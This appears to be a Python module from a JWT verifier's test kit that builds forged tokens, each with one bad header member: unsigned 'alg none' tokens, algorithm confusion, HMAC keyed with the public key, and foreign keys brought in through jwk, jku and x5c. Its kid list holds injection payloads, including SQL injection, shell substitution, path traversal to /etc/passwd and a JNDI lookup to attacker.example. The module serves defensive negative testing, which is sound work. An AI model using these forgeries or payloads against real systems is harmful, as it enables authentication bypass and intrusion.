"""Forgeries of the header: algorithm, type, key ID, and keys that the token carries."""

import hashlib
import hmac
import json
from typing import Any

from cryptography.hazmat.primitives.asymmetric import ec, ed25519, padding, rsa
from cryptography.hazmat.primitives.hashes import SHA256, SHA384, SHA512
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from testkit.keys import b64, jwk, make_rsa, thumbprint
from testkit.token_signer import MISSING, NamedTokens, TokenSigner, encode

_NONE = ("none", "None", "NONE", "nOnE", "none ", "")
_ALGORITHMS: tuple[Any, ...] = (
    "RS384",
    "RS512",
    "PS256",
    "PS384",
    "ES256",
    "EdDSA",
    "Ed25519",
    "HS256",
    "RSA-OAEP",
    "RS256K",
    "rs256",
    "Rs256",
    "RS256 ",
    " RS256",
    "RS256\u0000",
    "RS-256",
    "SHA256withRSA",
    "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256",
    None,
    True,
    256,
    ["RS256"],
    {"RS256": True},
    MISSING,
)
_TYPES: tuple[Any, ...] = (
    "JWT",
    "jwt",
    "AT+JWT",
    "at+JWT",
    "at+jwt ",
    " at+jwt",
    "at+jwt; charset=utf-8",
    "at+jwt\u0000",
    "at jwt",
    "at+jwt+x",
    "at",
    "application/jwt",
    "application/at+jwt ",
    "text/at+jwt",
    "application/application/at+jwt",
    "id+jwt",
    "rt+jwt",
    "statuslist+jwt",
    "logout+jwt",
    "secevent+jwt",
    "dpop+jwt",
    "client-authentication+jwt",
    "token-introspection+jwt",
    "oauth-authz-req+jwt",
    "",
    None,
    True,
    1,
    ["at+jwt"],
    {"at+jwt": True},
    MISSING,
)


def forge(signer: TokenSigner) -> NamedTokens:
    """Yield tokens with one wrong header member."""
    yield from _without_signature(signer)
    yield from _other_algorithms(signer)
    yield from _public_key_as_secret(signer)
    for typ in _TYPES:
        yield f"typ is {_show(typ)}", signer.sign(header={"typ": typ})
    yield from _critical(signer)
    yield from _key_names(signer)
    yield from _foreign_keys(signer)


def _show(value: Any) -> str:
    return "missing" if value is MISSING else json.dumps(value)[:60]


def _without_signature(signer: TokenSigner) -> NamedTokens:
    for alg in _NONE:
        unsigned = signer.unsigned(alg=alg)
        yield f"alg {alg!r} without a signature", f"{unsigned}."
        yield f"alg {alg!r} with a genuine RS256 signature", signer.sign(header={"alg": alg})
        yield f"alg {alg!r} with a made-up signature", f"{unsigned}.{b64(b'signature')}"
    yield "alg none without a kid", f"{signer.unsigned(alg='none', kid=MISSING)}."
    yield "alg none and the type JWT", f"{signer.unsigned(alg='none', typ='JWT', kid=MISSING)}."


def _other_algorithms(signer: TokenSigner) -> NamedTokens:
    for alg in _ALGORITHMS:
        yield f"alg is {_show(alg)} over a genuine RS256 signature", signer.sign(header={"alg": alg})
    pkcs1 = padding.PKCS1v15()
    for name, digest in (("RS384", SHA384()), ("RS512", SHA512())):
        text = signer.unsigned(alg=name)
        yield f"really signed with {name}", f"{text}.{b64(signer.key.sign(text.encode(), pkcs1, digest))}"
    pss = padding.PSS(padding.MGF1(SHA256()), 32)
    for alg in ("PS256", "RS256"):
        text = signer.unsigned(alg=alg)
        signature = signer.key.sign(text.encode(), pss, SHA256())
        yield f"really signed with PSS, alg {alg}", f"{text}.{b64(signature)}"
    curve = ec.generate_private_key(ec.SECP256R1())
    edwards = ed25519.Ed25519PrivateKey.generate()
    for alg in ("ES256", "RS256"):
        text = signer.unsigned(alg=alg)
        yield f"signed on P-256, alg {alg}", f"{text}.{b64(curve.sign(text.encode(), ec.ECDSA(SHA256())))}"
    for alg in ("EdDSA", "RS256"):
        text = signer.unsigned(alg=alg)
        yield f"signed with Ed25519, alg {alg}", f"{text}.{b64(edwards.sign(text.encode()))}"


def _public_key_as_secret(signer: TokenSigner) -> NamedTokens:
    public = signer.key.public_key()
    spki = public.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
    secrets = {
        "the public key's PEM": spki,
        "the public key's PEM without the last newline": spki.rstrip(b"\n"),
        "the public key's PEM with CRLF": spki.replace(b"\n", b"\r\n"),
        "the public key's PKCS#1 PEM": public.public_bytes(Encoding.PEM, PublicFormat.PKCS1),
        "the public key's DER": public.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo),
        "the public key's PKCS#1 DER": public.public_bytes(Encoding.DER, PublicFormat.PKCS1),
        "the key's JWK": encode(jwk(public)),
        "the JWK Set": encode(signer.jwks()),
        "the modulus": public.public_numbers().n.to_bytes(public.key_size // 8, "big"),
        "the key's name": signer.kid.encode(),
        "an empty secret": b"",
        "a well-known secret": b"secret",
    }
    for what, secret in secrets.items():
        for alg, digest in (("HS256", hashlib.sha256), ("HS512", hashlib.sha512), ("RS256", hashlib.sha256)):
            text = signer.unsigned(alg=alg)
            mac = hmac.new(secret, text.encode(), digest).digest()
            yield f"HMAC with {what}, alg {alg}", f"{text}.{b64(mac)}"


def _critical(signer: TokenSigner) -> NamedTokens:
    for value in (["exp"], ["b64"], ["unknown"], [], None, "exp", True):
        yield f"crit is {_show(value)}", signer.sign(header={"crit": value})
    for member in ("b64", "zip"):
        for setting in (True, False, None, "DEF", 0):
            yield f"{member} is {_show(setting)}", signer.sign(header={member: setting})
    yield "crit names b64, and b64 is false", signer.sign(header={"crit": ["b64"], "b64": False})


def _key_names(signer: TokenSigner) -> NamedTokens:
    other = thumbprint(make_rsa(which=1).public_key())
    names: tuple[Any, ...] = (
        MISSING,
        None,
        "",
        0,
        1,
        1.5,
        True,
        False,
        [],
        [signer.kid],
        {},
        {"kid": signer.kid},
        other,
        signer.kid[:-1],
        signer.kid + "A",
        signer.kid + " ",
        " " + signer.kid,
        signer.kid + "\u0000",
        signer.kid + "\n",
        signer.kid + "=",
        signer.kid.swapcase(),
        signer.kid[::-1],
        f"{signer.kid},{other}",
        "*",
        "default",
        "../../../../dev/null",
        "..\\..\\keys\\signing",
        "/etc/passwd",
        "file:///dev/null",
        "https://attacker.example/jwks.json",
        "x' OR '1'='1",
        "x' UNION SELECT 'secret' --",
        '"; DROP TABLE keys; --',
        "$(sleep 5)",
        "`id`",
        "|id",
        "${jndi:ldap://attacker.example/a}",
        "{{7*7}}",
        "%s%n%x",
        "__proto__",
        "constructor",
        "\u0000",
        "\ud83d\udd11",
        "kid\r\nX-Injected: 1",
        "A" * 4096,
    )
    for name in names:
        yield f"kid is {_show(name)}", signer.sign(header={"kid": name})


def _foreign_keys(signer: TokenSigner) -> NamedTokens:
    foreign = TokenSigner(signer.issuer, make_rsa(which=1), signer.now, audience=signer.audience)
    weak = TokenSigner(signer.issuer, make_rsa(1024), signer.now, audience=signer.audience)
    cubic = TokenSigner(signer.issuer, make_rsa(exponent=3), signer.now, audience=signer.audience)
    url = "https://attacker.example"
    for who, forger in (("a foreign key", foreign), ("a 1024-bit key", weak), ("a key with e=3", cubic)):
        public: rsa.RSAPublicKey = forger.key.public_key()
        der = public.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo)
        brought: dict[str, dict[str, Any]] = {
            "nothing else": {},
            "jwk": {"jwk": jwk(public)},
            "jwk under our kid": {"jwk": jwk(public, kid=signer.kid)},
            "jku": {"jku": f"{url}/jwks.json"},
            "jku beside the issuer": {"jku": f"{signer.issuer}/../attacker/jwks.json"},
            "jku with the issuer as user": {"jku": f"{signer.issuer}@attacker.example/jwks.json"},
            "x5u": {"x5u": f"{url}/key.pem"},
            "x5c": {"x5c": [b64(der)]},
            "x5t": {"x5t": b64(hashlib.sha1(der).digest()), "x5t#S256": b64(hashlib.sha256(der).digest())},
            "all of them": {
                "jwk": jwk(public),
                "jku": f"{url}/jwks.json",
                "x5u": f"{url}/k.pem",
                "x5c": [b64(der)],
            },
        }
        for what, header in brought.items():
            for kid_name, kid in (("our kid", signer.kid), ("its own kid", forger.kid), ("no kid", MISSING)):
                token = forger.sign(header={"kid": kid, **header})
                yield f"signed by {who} under {kid_name}, bringing {what}", token
